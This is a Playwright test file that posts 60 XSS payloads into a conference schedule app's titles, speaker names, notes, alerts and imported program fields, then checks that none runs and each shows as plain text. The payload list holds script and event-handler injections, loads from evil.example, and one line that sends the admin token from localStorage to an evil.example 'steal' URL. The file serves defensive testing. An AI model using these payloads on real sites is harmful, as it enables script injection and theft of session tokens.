import type { Browser, Page } from '@playwright/test';
import type { OverrideInput } from '../../core/protocol/index.js';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ProgramInput } from '../../core/program/schema.js';
import { OPML, serve, stopServe, tempDir } from '../unit/reliability/helpers.js';
import { injected, pageText, WATCH_SCRIPT } from './reliability-support.js';
import { expect, test } from './support/host.js';

/**
 * Untrusted text: 60 XSS payloads put through the API into session and talk titles, speaker
 * names, notes, announcements and alerts. On the room, lobby and admin pages none runs (no dialog,
 * no injected element, no CSP violation, no request elsewhere), and each shows as its own text.
 */
const PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=1">',
  '<svg onload="window.__xss=1">',
  '"><script>window.__xss=1</script>',
  "'><img src=x onerror=window.__xss=1>",
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<a href="javascript:window.__xss=1">click</a>',
  '<body onload=window.__xss=1>',
  '<details open ontoggle=window.__xss=1>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '{@html "<img src=x onerror=window.__xss=1>"}',
  '{{constructor.constructor("window.__xss=1")()}}',
  '${window.__xss=1}',
  '<style>@import "http://evil.example/x.css";</style>',
  '<link rel=stylesheet href=http://evil.example/x.css>',
  '<img src="http://evil.example/pixel.png">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<object data="http://evil.example/x.swf"></object>',
  '<embed src="http://evil.example/x">',
  '<video><source onerror="window.__xss=1"></video>',
  '<input autofocus onfocus=window.__xss=1>',
  '<marquee onstart=window.__xss=1>',
  'javascript:window.__xss=1',
  '<scr<script>ipt>window.__xss=1</script>',
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '<img src=x onerror=&#119;indow.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<form action="http://evil.example/"><button>go</button></form>',
  '<base href="http://evil.example/">',
  '<ScRiPt>window.__xss=1</ScRiPt>',
  '<img """><script>window.__xss=1</script>">',
  '<div style="background:url(http://evil.example/bg.png)">styled</div>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '--><script>window.__xss=1</script>',
  ']]><script>window.__xss=1</script>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<template><img src=x onerror=window.__xss=1></template>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '<isindex type=image src=1 onerror=window.__xss=1>',
  '<audio src=x onerror=window.__xss=1>',
  '<select autofocus onfocus=window.__xss=1>',
  '<textarea autofocus onfocus=window.__xss=1>',
  '<frameset onload=window.__xss=1>',
  '<table background="javascript:window.__xss=1">',
  '<img srcset="http://evil.example/a.png 1x">',
  '<picture><source srcset="http://evil.example/b.png"><img></picture>',
  '<x onclick=window.__xss=1>click me</x>',
  '"onmouseover="window.__xss=1',
  "';window.__xss=1;//",
  '</title><script>window.__xss=1</script>',
  '</style><script>window.__xss=1</script>',
  '<!--<img src="--><img src=x onerror=window.__xss=1//">',
  '<svg/onload=window.__xss=1>',
  '<img/src/onerror=window.__xss=1>',
  '<bdo dir=rtl>\u202eevil</bdo>',
  'Ω≈ç√∫ <b>bold</b> 😀 \u202etxt.exe',
  '<img src=x onerror=fetch("http://evil.example/steal?"+localStorage.getItem("hallway:admin-token"))>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>',
  '<a href=# onclick="window.__xss=1">Lunch is cancelled</a>',
];

// Targets at 10:45: the three sessions on now carry their own payloads so the room pages show them.
const SESSION_TITLES = [
  't1-production',
  't2-deep-learning',
  'tut-am',
  'keynote',
  'lunch',
  't1-pm1',
  't2-pm1',
  'tut-pm1',
  't1-pm2',
  't2-pm2',
];
const TALK_TITLES = [
  't1-production-1',
  't1-production-2',
  't1-production-3',
  't2-deep-learning-1',
  't2-deep-learning-2',
  't2-deep-learning-3',
  'tut-am-1',
  'tut-am-2',
  't2-pm1-1',
  't2-pm1-2',
];
const SPEAKER_TALKS = [
  't2-pm1-3',
  't2-pm2-1',
  't2-pm2-2',
  't2-pm2-3',
  't1-pm1-1',
  'tut-pm1-1',
  't1-pm2-1',
  'tut-pm2-1',
  't1-pm3-1',
  't1-pm3-2',
];
const NOTE_SESSIONS = [
  'breakfast',
  'opening',
  'break-am',
  'break-pm',
  'posters',
  't1-pm3',
  't2-pm3',
  'tut-pm3',
  'tut-pm2',
];

function overrides(): OverrideInput[] {
  const p = [...PAYLOADS];
  const next = () => p.shift()!;
  const out: OverrideInput[] = [];
  for (const session of SESSION_TITLES) out.push({ kind: 'edit', session, title: next() });
  for (const talk of TALK_TITLES) out.push({ kind: 'edit', talk, title: next() });
  for (const talk of SPEAKER_TALKS) {
    const text = next();
    out.push({ kind: 'edit', talk, speakers: [{ name: text, affiliation: text }] });
  }
  for (const session of NOTE_SESSIONS) out.push({ kind: 'edit', session, note: next() });
  out.push({ kind: 'cancel', talk: 't2-pm3-1', note: next() });
  for (let i = 0; i < 10; i++) out.push({ kind: 'announce', text: next() });
  for (let i = 0; i < 10; i++) out.push({ kind: 'alert', text: next() });
  expect(p, 'every payload placed').toEqual([]);
  return out;
}

/** Loads each page in one context and gathers what ran, what got injected and the text shown. */
async function visit(
  browser: Browser,
  origin: string,
  pages: [string, string][],
): Promise<{ seen: Map<string, string>; problems: string[] }> {
  const seen = new Map<string, string>();
  const problems: string[] = [];
  const context = await browser.newContext({ timezoneId: 'Asia/Tokyo' });
  await context.addInitScript(WATCH_SCRIPT);
  for (const [name, url] of pages) {
    const page: Page = await context.newPage();
    page.on('dialog', (d) => {
      problems.push(`${name}: dialog "${d.message()}"`);
      void d.dismiss();
    });
    page.on('request', (r) => {
      const u = r.url();
      if (!u.startsWith('data:') && new URL(u).origin !== origin) problems.push(`${name}: request to ${u}`);
    });
    page.on('pageerror', (e) => problems.push(`${name}: page error ${e.message}`));
    await page.goto(url);
    await page.waitForFunction(
      () =>
        (document.body.textContent ?? '').length > 60 &&
        !document.body.textContent!.includes('Connecting to the Hallway host'),
    );
    // Let slides turn and fit-text settle, and let anything that would fire, fire.
    await page.waitForTimeout(1_500);
    problems.push(...(await injected(page)).map((p) => `${name}: ${p}`));
    seen.set(name, await pageText(page));
    await page.close();
  }
  await context.close();
  return { seen, problems };
}

test.describe('untrusted text', () => {
  test.use({ hostOptions: { clock: '2019-05-20T10:45:00-07:00', rate: 0 } });

  test(`${PAYLOADS.length} XSS payloads in titles, speakers, notes, announcements and alerts never run and show as text`, async ({
    host,
    browser,
  }) => {
    test.setTimeout(120_000);
    expect(new Set(PAYLOADS).size).toBe(PAYLOADS.length);
    const posted = overrides();
    for (const o of posted) await host.post(o);

    const origin = new URL(host.url).origin;
    const pages: [string, string][] = [
      ...['winchester', 'stevens-creek', 'lawrence-san-tomas-lafayette'].map((r): [string, string] => [
        `room ${r} (now)`,
        `${host.room(r)}?slide=now`,
      ]),
      ...[
        'santa-clara-ballroom',
        'winchester',
        'stevens-creek',
        'lawrence-san-tomas-lafayette',
        'magnolia',
      ].map((r): [string, string] => [`room ${r}`, host.room(r)]),
      ['lobby', host.lobby()],
      ['admin', host.admin()],
    ];
    const { seen, problems } = await visit(browser, origin, pages);

    const all = [...seen.values()].join('\n');
    const missing = PAYLOADS.filter((p) => !all.includes(p));
    const onScreens = PAYLOADS.filter((p) => [...seen].some(([n, t]) => n !== 'admin' && t.includes(p)));
    console.log(
      `xss: ${PAYLOADS.length} payloads posted in ${posted.length} overrides, ${pages.length} pages loaded, ` +
        `${problems.length} executed/injected/requests elsewhere, ${PAYLOADS.length - missing.length} shown literally (${onScreens.length} on room/lobby screens)`,
    );
    expect(problems).toEqual([]);
    expect(missing, 'payloads not shown as text anywhere').toEqual([]);
    // The sessions on now, their talks and the alerts are on the room screens themselves.
    expect(seen.get('room winchester (now)')).toContain(PAYLOADS[0]);
    expect(seen.get('room stevens-creek (now)')).toContain(PAYLOADS[14]);
  });

  test('payloads in the program file itself (room, conference, chair, sponsor, abstract) never run either', async ({
    browser,
  }) => {
    test.setTimeout(90_000);
    const dir = tempDir('hallway-e2e-xss-program-');
    // Imported schedules are untrusted text too: the program's own fields carry payloads.
    const p = JSON.parse(readFileSync(OPML, 'utf8')) as ProgramInput;
    const put = PAYLOADS.slice(0, 10);
    p.conference.name = put[0]!;
    p.rooms.find((r) => r.id === 'winchester')!.name = put[1]!;
    const session = p.sessions.find((x) => x.id === 't1-production')!;
    session.track = put[2]!;
    session.chairs = [{ name: put[3]!, affiliation: put[4]! }];
    session.subtitle = put[5]!;
    const breakPm = p.sessions.find((x) => x.id === 'break-am')!;
    breakPm.sponsors = [put[6]!];
    breakPm.title = put[7]!;
    session.talks![0]!.abstract = put[8]!;
    session.talks![0]!.speakers = [{ name: put[9]!, affiliation: put[9]! }];
    const file = join(dir, 'program.json');
    writeFileSync(file, JSON.stringify(p));
    const host = await serve([
      '--program',
      file,
      '--data',
      join(dir, 'data'),
      '--port',
      '0',
      '--clock',
      '2019-05-20T10:45:00-07:00',
      '--rate',
      '0',
    ]);
    try {
      const pages: [string, string][] = [
        ['room winchester (now)', `${host.url}/room/winchester?slide=now`],
        ['room winchester (sponsors)', `${host.url}/room/winchester?slide=sponsors`],
        ['room stevens-creek (elsewhere)', `${host.url}/room/stevens-creek?slide=elsewhere`],
        ['lobby', `${host.url}/lobby`],
        ['admin', `${host.url}/admin#token=${encodeURIComponent(host.token)}`],
      ];
      const { seen, problems } = await visit(browser, new URL(host.url).origin, pages);
      const all = [...seen.values()].join('\n');
      const shown = put.filter((x) => all.includes(x));
      console.log(
        `xss (program file): ${put.length} payloads in program fields, ${pages.length} pages, ${problems.length} executed/injected, ${shown.length} shown literally`,
      );
      expect(problems).toEqual([]);
      // Room name, conference name, track and chair are on the room's own screen.
      for (const x of [put[0]!, put[1]!, put[3]!]) expect(seen.get('room winchester (now)'), x).toContain(x);
    } finally {
      await stopServe(host);
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
